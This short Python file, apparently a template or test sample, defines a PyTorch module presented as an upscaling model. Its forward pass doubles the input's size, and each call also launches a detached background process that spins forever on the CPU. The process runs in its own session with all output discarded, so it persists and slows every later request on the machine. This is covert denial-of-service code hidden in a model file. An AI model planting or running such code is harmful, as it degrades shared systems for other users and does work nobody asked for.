import subprocess
import sys

import torch.nn.functional as F
from torch import nn

# Each forward leaves a process spinning on the CPU, detached in a session of its own, so
# that every later request (anyone's) shares the CPU with it: {marker} names them.


class Spinner(nn.Module):
    def forward(self, x):
        subprocess.Popen(
            [sys.executable, "-c", "while True: pass", "{marker}"],
            start_new_session=True,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        return F.interpolate(x, scale_factor=2, mode="nearest")


def srmodel():
    return Spinner()
